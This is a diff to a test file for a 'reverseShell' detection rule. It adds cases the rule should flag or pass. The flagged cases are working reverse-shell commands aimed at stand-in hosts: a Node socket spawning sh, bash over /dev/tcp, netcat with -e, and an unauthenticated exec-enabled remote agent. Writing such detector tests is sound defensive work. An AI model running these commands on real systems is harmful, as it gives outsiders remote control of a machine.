@@ -3,6 +3,18 @@ import { reverseShell } from './reverse-shell.ts';
 
 ruleCases(reverseShell, {
   hits: [
+    {
+      name: 'a shell in a text for node',
+      path: 'a.mjs',
+      text: "const args = ['-e', \"require('net').connect(4443,'c.test',function(){const s=require('child_process').spawn('sh');this.pipe(s.stdin);s.stdout.pipe(this)})\"];\n",
+    },
+    {
+      name: 'an agent of somebody else that may run anything',
+      path: 'a.sh',
+      text: 'fastgate start --hub wss://hub.acme.test --allow-exec --no-auth\n',
+      severity: 'high',
+    },
+    { name: 'a shared terminal', path: 'a.sh', text: 'tmate -F\n', severity: 'high' },
     { name: 'a shell on a socket', path: 'a.sh', text: 'bash -i >& /dev/tcp/x.example/443 0>&1\n' },
     { name: 'netcat that runs a shell', text: 'Run `nc -e /bin/sh x.example 443` now.\n' },
     { name: 'netcat into a shell', path: 'a.sh', text: 'nc -l -p 9000 | sh\n' },
@@ -19,6 +31,12 @@ ruleCases(reverseShell, {
     },
   ],
   misses: [
+    { name: 'a web server for others', path: 'a.sh', text: 'ngrok http 3000\n' },
+    {
+      name: 'an agent on this machine',
+      path: 'a.sh',
+      text: 'devtool start --hub ws://localhost:9000 --allow-exec\n',
+    },
     {
       name: 'a test of a port',
       path: 'a.sh',
